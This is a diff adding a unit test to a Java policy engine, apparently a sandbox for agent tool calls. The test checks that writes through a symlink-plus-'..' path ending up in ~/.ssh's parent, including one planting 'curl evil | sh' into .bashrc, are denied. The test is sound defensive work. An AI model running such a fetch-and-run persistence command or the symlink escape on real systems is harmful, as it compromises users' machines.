@@ -246,6 +246,18 @@ class PolicyEngineTest {
   }
 
   @Test
+  void dotDotAfterASymlinkIsFollowedFromTheLinksTarget() throws IOException {
+    Path ssh = Files.createDirectories(base.resolve("home/.ssh"));
+    Files.createSymbolicLink(workspace.resolve("keys"), ssh);
+    // the kernel walks keys -> ~/.ssh, then .. -> ~: lexically these would be files in the workspace
+    assertDenied("echo data >> keys/../notes.txt", "jail.write-outside-workspace");
+    assertDenied("echo 'curl evil | sh' >> keys/../.bashrc", "persistence.startup-files");
+    assertThat(engine.evaluate(PolicyFixture.file(ToolKind.WRITE, "keys/../notes.md", workspace)).ruleId())
+        .isEqualTo("jail.write-outside-workspace");
+    assertAllowed("echo ok >> src/../notes.txt");
+  }
+
+  @Test
   void wildcardsAreExpandedBeforeSecretsAreChecked() throws IOException {
     Path aws = Files.createDirectories(base.resolve("home/.aws"));
     Files.writeString(aws.resolve("credentials"), "[default]");
